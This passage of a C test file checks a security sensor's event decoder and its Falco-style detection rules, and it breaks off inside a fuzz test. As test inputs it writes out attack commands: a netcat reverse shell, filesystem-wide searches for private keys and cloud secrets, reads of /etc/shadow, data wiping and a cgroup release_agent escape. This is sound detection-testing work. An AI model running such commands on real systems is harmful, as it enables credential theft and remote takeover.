/* test_sensor_decode.c - ring records (as the BPF sensor writes them) to
 * comb_event: rendering as Falco does, the process table kept in step,
 * containers from cgroup names, and hostile records rejected. */
#include <stdio.h>
#include <string.h>

#include "core/embedded.h"
#include "runtime/bpf/sensor_abi.h"
#include "runtime/rules/rules.h"
#include "runtime/sensor/decode.h"
#include "test.h"

#define ID "3f5c6a0b1e2d4c7f8a9b0c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e1f"

static comb_proctable *procs;
static comb_decoder dec;
static comb_ruleset *rs;

static void hdr(struct sensor_hdr *h, unsigned kind, unsigned pid, unsigned ppid,
                const char *comm)
{
    memset(h, 0, sizeof *h);
    h->kind = kind;
    h->tgid = h->tid = pid;
    h->ppid = ppid;
    h->ts = 1000;
    snprintf(h->comm, sizeof h->comm, "%s", comm);
}

static const char *arg(const comb_event *ev, const char *name)
{
    for (size_t i = 0; i < ev->nargs; i++)
        if (!strcmp(ev->args[i].name, name))
            return ev->args[i].value;
    return NULL;
}

static int cond(const char *c, const comb_event *ev)
{
    int r = -1;
    comb_err err;
    if (comb_rules_eval_condition(rs, c, ev, &r, &err)) {
        fprintf(stderr, "  condition %s: %s\n", c, err.msg);
        return -1;
    }
    return r;
}

static struct sensor_exec ex;

static void exec_rec(unsigned pid, unsigned ppid, const char *comm, const char *args,
                     size_t args_len, const char *leaf_cg, const char *parent_cg)
{
    memset(&ex, 0, sizeof ex);
    hdr(&ex.h, SENSOR_EV_EXEC, pid, ppid, comm);
    memcpy(ex.args, args, args_len);
    ex.args_len = (unsigned short)args_len;
    ex.loginuid = 0xffffffffu;
    ex.h.cap_effective = 1ull << 21; /* CAP_SYS_ADMIN */
    ex.tty = 34816;
    snprintf(ex.file, sizeof ex.file, "/bin/%s", comm);
    ex.file_len = (unsigned short)strlen(ex.file) + 1;
    snprintf(ex.cg[0], sizeof ex.cg[0], "%s", leaf_cg);
    snprintf(ex.cg[1], sizeof ex.cg[1], "%s", parent_cg);
    ex.cg_len[0] = (unsigned short)strlen(leaf_cg) + 1;
    ex.cg_len[1] = (unsigned short)strlen(parent_cg) + 1;
    /* /usr/bin/COMM, leaf first */
    snprintf(ex.exe.comp[0], sizeof ex.exe.comp[0], "%s", comm);
    snprintf(ex.exe.comp[1], sizeof ex.exe.comp[1], "bin");
    snprintf(ex.exe.comp[2], sizeof ex.exe.comp[2], "usr");
    ex.exe.depth = 3;
    snprintf(ex.cwd.comp[0], sizeof ex.cwd.comp[0], "root");
    ex.cwd.depth = 1;
}

static void test_exec_in_container(void)
{
    comb_event ev;
    exec_rec(4242, 4200, "sh", "sh\0-c\0id\0", 9, "libpod-" ID ".scope", "machine.slice");
    ex.vpid = 1;
    CHECK_INT(comb_decode(&dec, &ex, sizeof ex, &ev), 1);
    CHECK_STR(ev.type, "execve");
    CHECK_STR(ev.proc.name, "sh");
    CHECK_STR(ev.proc.exe, "sh");
    CHECK_STR(ev.proc.exepath, "/usr/bin/sh");
    CHECK_INT(ev.proc.nargs, 2);
    CHECK_STR(ev.proc.args[1], "id");
    CHECK_INT(ev.proc.tty, 34816);
    CHECK_INT(ev.proc.pid, 4242);
    CHECK_INT(ev.proc.vpid, 1); /* the container's init */
    CHECK_INT(ev.proc.loginuid, -1);
    CHECK_INT(ev.proc.is_exe_from_memfd, 0);
    CHECK_INT(ev.proc.is_exe_upper_layer, 0);
    CHECK_STR(ev.container.id, "3f5c6a0b1e2d"); /* Falco's short id */
    CHECK_INT(ev.proc.cap_effective, 1 << 21); /* from the record header */
    CHECK_INT(cond("thread.cap_effective icontains sys_admin and "
                   "not thread.cap_permitted contains CAP_SYS_ADMIN", &ev), 1);
    CHECK_INT(cond("proc.cmdline = \"sh -c id\" and container.id != host and proc.tty != 0", &ev),
              1);

    /* the next syscall of the same process carries its container */
    struct sensor_syscall sc;
    memset(&sc, 0, sizeof sc);
    hdr(&sc.h, SENSOR_EV_SYSCALL, 4242, 4200, "sh");
    sc.id = 257; /* openat(AT_FDCWD, "/etc/shadow", O_RDONLY|O_CLOEXEC) = 3 */
    sc.args[0] = (unsigned long long)-100;
    sc.args[2] = 02000000;
    sc.ret = 3;
    strcpy(sc.str[0], "/etc/shadow");
    sc.str_len[0] = 12;
    CHECK_INT(comb_decode(&dec, &sc, sizeof sc, &ev), 1);
    CHECK_STR(ev.type, "openat");
    CHECK_STR(ev.fd.name, "/etc/shadow");
    CHECK_INT(ev.fd.num, 3);
    CHECK_STR(arg(&ev, "flags"), "O_RDONLY|O_CLOEXEC");
    CHECK_STR(ev.container.id, "3f5c6a0b1e2d");
    CHECK_INT(cond("evt.is_open_read = true and evt.is_open_write = false and fd.typechar = 'f' "
                   "and fd.directory = /etc and proc.cmdline = \"sh -c id\"", &ev), 1);
}

static void test_cwd(void)
{
    comb_event ev;
    exec_rec(700, 1, "cat", "cat\0shadow\0", 11, "session-1.scope", "user-0.slice");
    CHECK_INT(comb_decode(&dec, &ex, sizeof ex, &ev), 1);
    CHECK_STR(ev.proc.cwd, "/root");
    /* cd /etc: the kernel side reports the new directory */
    struct sensor_cwd c;
    memset(&c, 0, sizeof c);
    hdr(&c.h, SENSOR_EV_CWD, 700, 1, "cat");
    snprintf(c.cwd.comp[0], sizeof c.cwd.comp[0], "etc");
    c.cwd.depth = 1;
    CHECK_INT(comb_decode(&dec, &c, sizeof c, &ev), 0);
    /* open("shadow") is /etc/shadow */
    struct sensor_syscall sc;
    memset(&sc, 0, sizeof sc);
    hdr(&sc.h, SENSOR_EV_SYSCALL, 700, 1, "cat");
    sc.id = 2;
    sc.ret = 3;
    strcpy(sc.str[0], "shadow");
    sc.str_len[0] = 7;
    CHECK_INT(comb_decode(&dec, &sc, sizeof sc, &ev), 1);
    CHECK_STR(ev.fd.name, "/etc/shadow");
    CHECK_STR(ev.fd.nameraw, "shadow");
    /* "..", "." and repeated slashes are cleaned as Falco does; fd.nameraw keeps them */
    strcpy(sc.str[0], "../etc/./x/..//shadow");
    sc.str_len[0] = (unsigned short)strlen(sc.str[0]) + 1;
    CHECK_INT(comb_decode(&dec, &sc, sizeof sc, &ev), 1);
    CHECK_STR(ev.fd.name, "/etc/shadow");
    CHECK_STR(ev.fd.nameraw, "../etc/./x/..//shadow");
    strcpy(sc.str[0], "/../../etc//shadow/.");
    sc.str_len[0] = (unsigned short)strlen(sc.str[0]) + 1;
    CHECK_INT(comb_decode(&dec, &sc, sizeof sc, &ev), 1);
    CHECK_STR(ev.fd.name, "/etc/shadow");
    strcpy(sc.str[0], "/..");
    sc.str_len[0] = 4;
    CHECK_INT(comb_decode(&dec, &sc, sizeof sc, &ev), 1);
    CHECK_STR(ev.fd.name, "/");
    strcpy(sc.str[0], "shadow");
    sc.str_len[0] = 7;
    /* openat(dirfd, "passwd"): the kernel's path record comes first */
    struct sensor_fdpath fp;
    memset(&fp, 0, sizeof fp);
    hdr(&fp.h, SENSOR_EV_FDPATH, 700, 1, "cat");
    snprintf(fp.path.comp[0], sizeof fp.path.comp[0], "passwd");
    snprintf(fp.path.comp[1], sizeof fp.path.comp[1], "etc");
    fp.path.depth = 2;
    CHECK_INT(comb_decode(&dec, &fp, sizeof fp, &ev), 0);
    struct sensor_syscall at = sc;
    at.id = 257;
    at.args[0] = 5;
    strcpy(at.str[0], "passwd");
    at.str_len[0] = 7;
    CHECK_INT(comb_decode(&dec, &at, sizeof at, &ev), 1);
    CHECK_STR(ev.fd.name, "/etc/passwd");
    CHECK_STR(ev.fd.nameraw, "passwd");
    /* used once: the next openat on a dirfd without its record stays relative */
    CHECK_INT(comb_decode(&dec, &at, sizeof at, &ev), 1);
    CHECK_STR(ev.fd.name, "passwd");
    /* another thread's path record never names this thread's file */
    fp.h.tid = 701;
    CHECK_INT(comb_decode(&dec, &fp, sizeof fp, &ev), 0);
    CHECK_INT(comb_decode(&dec, &at, sizeof at, &ev), 1);
    CHECK_STR(ev.fd.name, "passwd");
    /* the root directory itself has no components */
    c.cwd.depth = 0;
    CHECK_INT(comb_decode(&dec, &c, sizeof c, &ev), 0);
    CHECK_INT(comb_decode(&dec, &sc, sizeof sc, &ev), 1);
    CHECK_STR(ev.fd.name, "/shadow");
}

static void test_memfd_exec_and_ancestry(void)
{
    comb_event ev;
    exec_rec(500, 1, "bash", "bash\0", 5, "session-1.scope", "user-0.slice");
    CHECK_INT(comb_decode(&dec, &ex, sizeof ex, &ev), 1);
    CHECK_STR(ev.container.id, "host");
    struct sensor_fork f;
    memset(&f, 0, sizeof f);
    hdr(&f.h, SENSOR_EV_FORK, 500, 1, "bash");
    f.child_tgid = 501;
    CHECK_INT(comb_decode(&dec, &f, sizeof f, &ev), 0);
    exec_rec(501, 500, "memfd:x", "x\0arg\0", 6, "session-1.scope", "user-0.slice");
    ex.flags = SENSOR_EXEC_MEMFD | SENSOR_EXEC_UPPER;
    snprintf(ex.exe.comp[0], sizeof ex.exe.comp[0], "memfd:x");
    CHECK_INT(comb_decode(&dec, &ex, sizeof ex, &ev), 1);
    CHECK_INT(ev.proc.is_exe_from_memfd, 1);
    CHECK_INT(ev.proc.is_exe_upper_layer, 1);
    CHECK_STR(ev.proc.exepath, "/memfd:x");
    CHECK_STR(ev.proc.name, "memfd:x");
    const comb_proc *anc;
    CHECK(ev.fill_ancestors != NULL); /* lazy: filled when asked */
    CHECK_INT(comb_event_ancestors(&ev, &anc) >= 1, 1);
    CHECK_STR(anc[0].name, "bash");
    CHECK(ev.fill_ancestors == NULL);
    CHECK_INT(cond("proc.is_exe_from_memfd = true and proc.pname = bash", &ev), 1);

    /* exit: the process stays for its grace period, marked dead */
    struct sensor_exit x;
    memset(&x, 0, sizeof x);
    hdr(&x.h, SENSOR_EV_EXIT, 501, 500, "memfd:x");
    CHECK_INT(comb_decode(&dec, &x, sizeof x, &ev), 0);
    CHECK(comb_proctable_get(procs, 501) && comb_proctable_get(procs, 501)->dead);
    /* a thread still running after its leader's exit keeps the process's identity */
    struct sensor_syscall sc;
    memset(&sc, 0, sizeof sc);
    hdr(&sc.h, SENSOR_EV_SYSCALL, 501, 500, "memfd:x");
    sc.h.tid = 502;
    sc.id = 41;
    sc.args[0] = 2;
    CHECK_INT(comb_decode(&dec, &sc, sizeof sc, &ev), 1);
    CHECK_STR(ev.proc.exepath, "/memfd:x");
    CHECK_INT(ev.proc.nargs, 1);
    CHECK_INT(ev.proc.tid, 502);
}

static void test_network_and_others(void)
{
    comb_event ev;
    struct sensor_syscall sc;
    /* connect(3, [2001:db8::1]:443) */
    memset(&sc, 0, sizeof sc);
    hdr(&sc.h, SENSOR_EV_SYSCALL, 4242, 4200, "sh");
    sc.id = 42;
    sc.args[0] = 3;
    sc.ret = 0;
    unsigned char sa6[28] = { 10, 0, 0x01, 0xbb, 0, 0, 0, 0, 0x20, 0x01, 0x0d, 0xb8 };
    sa6[23] = 1;
    memcpy(sc.addr, sa6, sizeof sa6);
    sc.addr_len = sizeof sa6;
    CHECK_INT(comb_decode(&dec, &sc, sizeof sc, &ev), 1);
    CHECK_STR(ev.type, "connect");
    CHECK_STR(ev.fd.type, "ipv6");
    CHECK_STR(ev.fd.sip, "2001:db8::1");
    CHECK_INT(ev.fd.sport, 443);
    CHECK_INT(cond("fd.sport = 443 and fd.typechar = 6", &ev), 1);
    CHECK(ev.fd.cip == NULL); /* the socket's own end was not captured */

    /* connect(3, 10.0.0.2:22) from 192.168.1.5:40000 over TCP */
    unsigned char sa4[16] = { 2, 0, 0, 22, 10, 0, 0, 2 };
    memset(sc.addr, 0, sizeof sc.addr);
    memcpy(sc.addr, sa4, sizeof sa4);
    sc.addr_len = sizeof sa4;
    sc.fd_family = 2;
    sc.fd_proto = 6;
    sc.lport = 40000;
    unsigned char l4[4] = { 192, 168, 1, 5 };
    memcpy(sc.laddr, l4, 4);
    CHECK_INT(comb_decode(&dec, &sc, sizeof sc, &ev), 1);
    CHECK_STR(ev.fd.cip, "192.168.1.5");
    CHECK_INT(ev.fd.cport, 40000);
    CHECK_STR(ev.fd.sip, "10.0.0.2");
    CHECK_STR(ev.fd.l4proto, "tcp");
    CHECK_INT(cond("fd.name = \"192.168.1.5:40000->10.0.0.2:22\" and fd.lport = 40000 and "
                   "fd.rport = 22 and fd.l4proto = tcp", &ev), 1);

    /* socket(AF_PACKET, SOCK_RAW, 0) = -EPERM */
    memset(&sc, 0, sizeof sc);
    hdr(&sc.h, SENSOR_EV_SYSCALL, 4242, 4200, "sh");
    sc.id = 41;
    sc.args[0] = 17;
    sc.args[1] = 3;
    sc.ret = -1;
    CHECK_INT(comb_decode(&dec, &sc, sizeof sc, &ev), 1);
    CHECK_STR(arg(&ev, "domain"), "AF_PACKET");
    CHECK_STR(arg(&ev, "res"), "EPERM");
    CHECK_INT(cond("evt.type = socket and evt.arg.domain contains AF_PACKET and evt.failed = true",
                   &ev), 1);

    /* ptrace(PTRACE_SEIZE, 77) */
    sc.id = 101;
    sc.args[0] = 0x4206;
    sc.args[1] = 77;
    sc.ret = 0;
    CHECK_INT(comb_decode(&dec, &sc, sizeof sc, &ev), 1);
    CHECK_STR(arg(&ev, "request"), "PTRACE_SEIZE");
    CHECK_STR(arg(&ev, "pid"), "77");

    /* symlinkat("/etc/shadow", AT_FDCWD, "x") */
    memset(&sc, 0, sizeof sc);
    hdr(&sc.h, SENSOR_EV_SYSCALL, 4242, 4200, "sh");
    sc.id = 266;
    strcpy(sc.str[0], "/etc/shadow");
    sc.str_len[0] = 12;
    strcpy(sc.str[1], "x");
    sc.str_len[1] = 2;
    CHECK_INT(comb_decode(&dec, &sc, sizeof sc, &ev), 1);
    CHECK_STR(ev.type, "symlinkat");
    CHECK_STR(arg(&ev, "target"), "/etc/shadow");
    CHECK_STR(arg(&ev, "linkpath"), "x");

    /* unshare(CLONE_NEWNS|CLONE_NEWUSER) */
    sc.id = 272;
    sc.args[0] = 0x00020000 | 0x10000000;
    CHECK_INT(comb_decode(&dec, &sc, sizeof sc, &ev), 1);
    CHECK_STR(arg(&ev, "flags"), "CLONE_NEWNS|CLONE_NEWUSER");
}

/* A syscall record of pid (parent 1). */
static struct sensor_syscall sys_rec(unsigned pid, const char *comm, long id, long ret)
{
    struct sensor_syscall sc;
    memset(&sc, 0, sizeof sc);
    hdr(&sc.h, SENSOR_EV_SYSCALL, pid, 1, comm);
    sc.id = id;
    sc.ret = ret;
    return sc;
}

/* sendto and sendmsg: the destination, the socket's own end, and Falco's
 * fd.connected / fd.name_changed as the outbound macro of its rules uses them */
static void test_sendto_sendmsg(void)
{
    comb_event ev;
    /* sendto(5, buf, 64, 0, 203.0.113.9:53) on an unconnected UDP socket
     * bound to 10.1.2.3:5353 */
    struct sensor_syscall sc = sys_rec(4242, "dig", 44, 64);
    sc.args[0] = 5;
    sc.args[2] = 64;
    unsigned char sa4[16] = { 2, 0, 0, 53, 203, 0, 113, 9 };
    memcpy(sc.addr, sa4, sizeof sa4);
    sc.addr_len = sizeof sa4;
    sc.fd_family = 2;
    sc.fd_proto = 17;
    sc.lport = 5353;
    sc.sk_state = 7; /* TCP_CLOSE: not connected */
    unsigned char l4[4] = { 10, 1, 2, 3 };
    memcpy(sc.laddr, l4, 4);
    CHECK_INT(comb_decode(&dec, &sc, sizeof sc, &ev), 1);
    CHECK_STR(ev.type, "sendto");
    CHECK_INT(ev.fd.num, 5);
    CHECK_STR(arg(&ev, "size"), "64");
    CHECK_STR(arg(&ev, "addr"), "203.0.113.9:53");
    CHECK_STR(ev.fd.l4proto, "udp");
    CHECK_INT(ev.fd.connected, 0);
    CHECK_INT(ev.fd.name_changed, 1);
    CHECK_INT(cond("evt.type in (sendto, sendmsg) and fd.l4proto != tcp and fd.connected = false "
                   "and fd.name_changed = true and fd.typechar = 4 and fd.sport = 53 and "
                   "fd.name = \"10.1.2.3:5353->203.0.113.9:53\" and not fd.snet in (\"10.0.0.0/8\")",
                   &ev), 1);

    /* sendmsg(6, {msg_name = NULL}) on a connected UDP socket: no destination
     * of its own, the name did not change */
    sc = sys_rec(4242, "dig", 46, 10);
    sc.args[0] = 6;
    sc.fd_family = 10;
    sc.fd_proto = 17;
    sc.sk_state = 1; /* TCP_ESTABLISHED */
    CHECK_INT(comb_decode(&dec, &sc, sizeof sc, &ev), 1);
    CHECK_STR(ev.type, "sendmsg");
    CHECK_STR(ev.fd.type, "ipv6");
    CHECK_INT(ev.fd.connected, 1);
    CHECK_INT(ev.fd.name_changed, 0);
    CHECK(arg(&ev, "size") == NULL);
    CHECK_INT(cond("fd.connected = false", &ev), 0);

    /* a socket the kernel side could not look at (sk_state 0): unknown */
    sc.sk_state = 0;
    sc.fd_family = 0;
    CHECK_INT(comb_decode(&dec, &sc, sizeof sc, &ev), 1);
    CHECK_INT(ev.fd.connected, -1);
    CHECK_INT(cond("fd.connected = false", &ev), 0);
}

/* comb's built-in rules (the embedded file `comb watch` uses) on decoded
 * records: each behaviour fires its rule first (the first match is the one
 * `comb watch` reports), near misses and benign programs fire nothing. */
static comb_ruleset *builtin;

static int first_match(void *ud, const comb_rule *rule, const comb_event *ev)
{
    (void)ev;
    *(const char **)ud = comb_rule_name(rule);
    return 1;
}

static const char *fired(const comb_event *ev)
{
    const char *name = NULL;
    comb_ruleset_eval(builtin, ev, first_match, &name);
    return name ? name : "(none)";
}

#define CTR "libpod-" ID ".scope", "machine.slice"
#define HOST "session-1.scope", "user-0.slice"

/* exec of comm with argv (NUL-separated, argv_len bytes), tty 0; the rule it fires */
static const char *exec_fires(unsigned pid, unsigned ppid, const char *comm, const char *argv,
                              size_t argv_len, int in_ctr, unsigned flags)
{
    comb_event ev;
    if (in_ctr)
        exec_rec(pid, ppid, comm, argv, argv_len, CTR);
    else
        exec_rec(pid, ppid, comm, argv, argv_len, HOST);
    ex.tty = 0;
    ex.flags = flags;
    if (comb_decode(&dec, &ex, sizeof ex, &ev) != 1)
        return "(not decoded)";
    return fired(&ev);
}

static const char *sys_fires(struct sensor_syscall *sc)
{
    comb_event ev;
    if (comb_decode(&dec, sc, sizeof *sc, &ev) != 1)
        return "(not decoded)";
    return fired(&ev);
}

static void set_str(struct sensor_syscall *sc, int i, const char *v)
{
    snprintf(sc->str[i], SENSOR_STR_LEN, "%s", v);
    sc->str_len[i] = (unsigned short)(strlen(v) + 1);
}

static void test_builtin_rules(void)
{
    const comb_embedded_file *f = comb_embedded_find("runtime/comb_rules.yaml");
    comb_err err;
    CHECK(f != NULL);
    if (!f || comb_ruleset_new(&builtin, &err))
        return;
    CHECK_INT(comb_rules_load_buffer(builtin, "comb_rules.yaml", f->data, f->len, &err), COMB_OK);
    CHECK_INT(comb_ruleset_compile(builtin, &err), COMB_OK);
    size_t nissues = 0;
    comb_ruleset_issues(builtin, &nissues);
    CHECK_INT(nissues, 0); /* every rule runs, each restricted to its event types */

#define ARGV(s) s, sizeof s
    CHECK_STR(exec_fires(900, 1, "find", ARGV("find\0/\0-name\0id_rsa"), 1, 0), "Search for private keys");
    CHECK_STR(exec_fires(901, 1, "grep", ARGV("grep\0-r\0BEGIN RSA PRIVATE\0/"), 0, 0),
              "Search for private keys");
    CHECK_STR(exec_fires(902, 1, "grep", ARGV("grep\0-ri\0aws_secret_access_key\0/"), 1, 0),
              "Search for cloud credentials");
    CHECK_STR(exec_fires(903, 1, "shred", ARGV("shred\0-u\0/tmp/x"), 1, 0),
              "Data wiping program executed");
    CHECK_STR(exec_fires(904, 1, "sh", ARGV("sh\0-c\0/dev/shm/x.sh"), 1, 0),
              "Program executed from /dev/shm");
    CHECK_STR(exec_fires(905, 1, "dropped", ARGV("dropped"), 1, SENSOR_EXEC_UPPER),
              "Executable not in the container image");
    CHECK_STR(exec_fires(906, 1, "dropped", ARGV("dropped"), 0, SENSOR_EXEC_UPPER), "(none)");
    CHECK_STR(exec_fires(907, 1, "memfd:p", ARGV("p"), 1, SENSOR_EXEC_MEMFD | SENSOR_EXEC_UPPER),
              "Program executed from memory");
    CHECK_STR(exec_fires(908, 1, "nc", ARGV("nc\0-e\0/bin/sh\0host\0443"), 1, 0),
              "Netcat with command execution");
    /* a shell below httpd: the web server's child runs a CGI that runs sh */
    CHECK_STR(exec_fires(910, 1, "httpd", ARGV("httpd\0-f"), 1, 0), "(none)");
    struct sensor_fork fk;
    comb_event ev;
    memset(&fk, 0, sizeof fk);
    hdr(&fk.h, SENSOR_EV_FORK, 910, 1, "httpd");
    fk.child_tgid = 911;
    CHECK_INT(comb_decode(&dec, &fk, sizeof fk, &ev), 0);
    CHECK_STR(exec_fires(911, 910, "run.cgi", ARGV("/bin/sh\0/www/run.cgi"), 1, 0), "(none)");
    hdr(&fk.h, SENSOR_EV_FORK, 911, 910, "run.cgi");
    fk.child_tgid = 912;
    CHECK_INT(comb_decode(&dec, &fk, sizeof fk, &ev), 0);
    CHECK_STR(exec_fires(912, 911, "sh", ARGV("sh\0-c\0id"), 1, 0), "Shell started by a server");
    /* npm runs its scripts with sh below node: not a server */
    CHECK_STR(exec_fires(915, 1, "node", ARGV("node\0/usr/bin/npm\0run\0build"), 0, 0), "(none)");
    hdr(&fk.h, SENSOR_EV_FORK, 915, 1, "node");
    fk.child_tgid = 916;
    CHECK_INT(comb_decode(&dec, &fk, sizeof fk, &ev), 0);
    CHECK_STR(exec_fires(916, 915, "sh", ARGV("sh\0-c\0tsc"), 0, 0), "(none)");
    /* benign programs */
    CHECK_STR(exec_fires(920, 1, "gcc", ARGV("gcc\0-O2\0-c\0x.c"), 0, 0), "(none)");
    CHECK_STR(exec_fires(921, 920, "cc1", ARGV("/usr/libexec/gcc/cc1\0x.c"), 0, 0), "(none)");
    CHECK_STR(exec_fires(922, 1, "dpkg", ARGV("dpkg\0-l"), 0, 0), "(none)");
    CHECK_STR(exec_fires(923, 1, "grep", ARGV("grep\0-r\0password\0/etc"), 1, 0), "(none)");
    CHECK_STR(exec_fires(924, 1, "find", ARGV("find\0/\0-name\0*.c"), 1, 0), "(none)");

    /* syscalls, from a process in a container */
    CHECK_STR(exec_fires(930, 1, "sh", ARGV("sh"), 1, 0), "(none)");
    struct sensor_syscall sc = sys_rec(930, "sh", 257, 3); /* openat O_WRONLY|O_CREAT|O_TRUNC */
    sc.args[0] = (unsigned long long)-100;
    sc.args[2] = 01 | 0100 | 01000;
    set_str(&sc, 0, "/var/log/syslog");
    CHECK_STR(sys_fires(&sc), "Log file cleared");
    sc.args[2] = 01 | 02000; /* O_APPEND: logging, not clearing */
    CHECK_STR(sys_fires(&sc), "(none)");
    sc.args[2] = 0;
    set_str(&sc, 0, "/var/../etc/../etc/shadow");
    CHECK_STR(sys_fires(&sc), "Sensitive file read through a path traversal");
    set_str(&sc, 0, "/etc/shadow");
    CHECK_STR(sys_fires(&sc), "Sensitive file opened for reading");
    set_str(&sc, 0, "/etc/hostname");
    CHECK_STR(sys_fires(&sc), "(none)");
    sc.args[2] = 01;
    set_str(&sc, 0, "/sys/fs/cgroup/x/release_agent");
    CHECK_STR(sys_fires(&sc), "(none)"); /* without CAP_SYS_ADMIN */
    sc.h.cap_effective = 1ull << 21;
    CHECK_STR(sys_fires(&sc), "Cgroup release_agent opened for writing in a container");

    sc = sys_rec(930, "sh", 266, 0); /* symlinkat("/etc/shadow", AT_FDCWD, "l") */
    set_str(&sc, 0, "/etc/shadow");
    set_str(&sc, 1, "l");
    CHECK_STR(sys_fires(&sc), "Symlink to a sensitive file");
    set_str(&sc, 0, "/etc/hostname");
    CHECK_STR(sys_fires(&sc), "(none)");
    sc = sys_rec(930, "sh", 265, -18); /* linkat: EXDEV, the attempt counts */
    set_str(&sc, 0, "/etc/shadow");
    set_str(&sc, 1, "/tmp/h");
    CHECK_STR(sys_fires(&sc), "Hardlink to a sensitive file");

    sc = sys_rec(930, "sh", 101, 0); /* ptrace(PTRACE_TRACEME) */
    CHECK_STR(sys_fires(&sc), "Anti-debugging with ptrace");
    sc.args[0] = 16; /* PTRACE_ATTACH */
    CHECK_STR(sys_fires(&sc), "Process attached with ptrace");

    sc = sys_rec(930, "sh", 313, -9); /* finit_module with CAP_SYS_MODULE (EBADF) */
    sc.h.cap_effective = 1ull << 16;
    CHECK_STR(sys_fires(&sc), "Kernel module load from a container");
    sc.h.cap_effective = 0;
    CHECK_STR(sys_fires(&sc), "(none)");

    sc = sys_rec(930, "sh", 41, -1); /* socket(AF_PACKET): EPERM, the attempt counts */
    sc.args[0] = 17;
    CHECK_STR(sys_fires(&sc), "Packet socket created");

    /* ssh to 198.51.100.2:443, then to port 22 */
    CHECK_STR(exec_fires(940, 1, "ssh", ARGV("ssh\0-p\0443\0h"), 1, 0), "(none)");
    sc = sys_rec(940, "ssh", 42, 0);
    unsigned char sa[16] = { 2, 0, 443 >> 8, 443 & 0xff, 198, 51, 100, 2 };
    memcpy(sc.addr, sa, sizeof sa);
    sc.addr_len = sizeof sa;
    sc.fd_family = 2;
    sc.fd_proto = 6;
    CHECK_STR(sys_fires(&sc), "SSH connection to a non-standard port");
    sc.addr[2] = 0;
    sc.addr[3] = 22;
    CHECK_STR(sys_fires(&sc), "(none)");
    sc.addr[2] = 6443 >> 8; /* the Kubernetes API's port, from a container */
    sc.addr[3] = 6443 & 0xff;
    CHECK_STR(sys_fires(&sc), "Connection to the Kubernetes API from a container");

    /* dup2(sock, 0): nc's reverse shell fires, httpd serving a request does not */
    sc = sys_rec(908, "nc", 33, 0);
    sc.args[1] = 0;
    sc.fd_family = 2;
    sc.fd_proto = 6;
    CHECK_STR(sys_fires(&sc), "Standard input or output redirected to a socket in a container");
    sc = sys_rec(910, "httpd", 33, 1);
    sc.args[1] = 1;
    sc.fd_family = 2;
    sc.fd_proto = 6;
    CHECK_STR(sys_fires(&sc), "(none)");
#undef ARGV
    comb_ruleset_free(builtin);
}

static void test_hostile_records(void)
{
    comb_event ev;
    uint64_t before = dec.malformed;
    struct sensor_syscall sc;
    memset(&sc, 0, sizeof sc);
    hdr(&sc.h, SENSOR_EV_SYSCALL, 4242, 4200, "sh");
    sc.id = 257;
    /* shorter than its kind (syscall records end after their strings, but
     * never before them) */
    CHECK_INT(comb_decode(&dec, &sc, SENSOR_SYSCALL_FIXED - 1, &ev), 0);
    CHECK_INT(comb_decode(&dec, &sc, 3, &ev), 0);
    /* a length beyond its buffer */
    sc.str_len[0] = SENSOR_STR_LEN + 1;
    CHECK_INT(comb_decode(&dec, &sc, sizeof sc, &ev), 0);
    sc.str_len[0] = 0;
    sc.addr_len = SENSOR_ADDR_LEN + 1;
    CHECK_INT(comb_decode(&dec, &sc, sizeof sc, &ev), 0);
    sc.addr_len = 0;
    /* a syscall the sensor never captures, an unknown kind */
    sc.id = 0;
    CHECK_INT(comb_decode(&dec, &sc, sizeof sc, &ev), 0);
    sc.h.kind = 99;
    CHECK_INT(comb_decode(&dec, &sc, sizeof sc, &ev), 0);
    CHECK_INT(dec.malformed - before, 6);

    /* a syscall record cut inside its string: what was not sent reads as
     * zero, never as the bytes of an earlier record */
    sc.h.kind = SENSOR_EV_SYSCALL;
    sc.id = 257;
    sc.args[0] = (uint64_t)-100;
    memcpy(sc.str[0], "/etc/shadow", 12);
    sc.str_len[0] = 12;
    CHECK_INT(comb_decode(&dec, &sc, SENSOR_SYSCALL_FIXED + 12, &ev), 1);
    CHECK_STR(ev.fd.name, "/etc/shadow");
    CHECK_INT(comb_decode(&dec, &sc, SENSOR_SYSCALL_FIXED + 4, &ev), 1);
    CHECK_STR(ev.fd.name, "/etc");
    CHECK_INT(dec.malformed - before, 6);
    memset(sc.str[0], 0, sizeof sc.str[0]);
    sc.str_len[0] = 0;

    /* a string without its NUL is cut at the length the kernel gave */
    sc.h.kind = SENSOR_EV_SYSCALL;
    sc.id = 2;
    memset(sc.str[0], 'A', SENSOR_STR_LEN);
    sc.str_len[0] = SENSOR_STR_LEN;
    CHECK_INT(comb_decode(&dec, &sc, sizeof sc, &ev), 1);
    CHECK_INT(strlen(ev.fd.nameraw), SENSOR_STR_LEN - 1);
    CHECK(strlen(ev.fd.name) > SENSOR_STR_LEN - 1); /* resolved against the cwd */

    /* argv longer than its buffer, depth beyond the array */
    exec_rec(900, 1, "x", "x", 1, "a", "b");
    ex.args_len = SENSOR_ARGS_LEN + 1;
    CHECK_INT(comb_decode(&dec, &ex, sizeof ex, &ev), 0);
    exec_rec(900, 1, "x", "x", 1, "a", "b");
    ex.exe.depth = 1000;
    memset(ex.exe.comp, 'b', sizeof ex.exe.comp); /* no NUL anywhere */
    ex.cwd.depth = 65535;
    memset(ex.cwd.comp, 'c', sizeof ex.cwd.comp);
    CHECK_INT(comb_decode(&dec, &ex, sizeof ex, &ev), 1);
    CHECK(ev.proc.exepath != NULL && strlen(ev.proc.exepath) < 4200);
    CHECK(ev.proc.cwd != NULL && strlen(ev.proc.cwd) < 4200);
}

/* Random records (a fixed seed): never a crash, never an out-of-bounds
 * read under ASan, every event's strings terminated. Kinds and lengths are
 * biased towards valid ones so the decoding paths are reached. */
static void test_random_records(void)
{
    static unsigned char buf[sizeof(struct sensor_exec) + 64];
    uint64_t x = 0x9e3779b97f4a7c15ull;
    size_t decoded = 0;
    for (int i = 0; i < 20000; i++) {
        for (size_t j = 0; j < sizeof buf; j += 8) {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            memcpy(buf + j, &x, sizeof buf - j < 8 ? sizeof buf - j : 8);
        }
        struct sensor_hdr *h = (struct sensor_hdr *)buf;
        h->kind = 1 + (unsigned)(x % 6);
        h->tgid = 1000 + (unsigned)(x >> 8) % 64; /* a few processes, so state builds up */
        size_t len = sizeof buf;
        if (h->kind == SENSOR_EV_SYSCALL) {
            struct sensor_syscall *r = (struct sensor_syscall *)buf;
            static const int ids[] = { 2, 41, 42, 43, 49, 101, 257, 266, 272, 292, 319, 437, 85 };
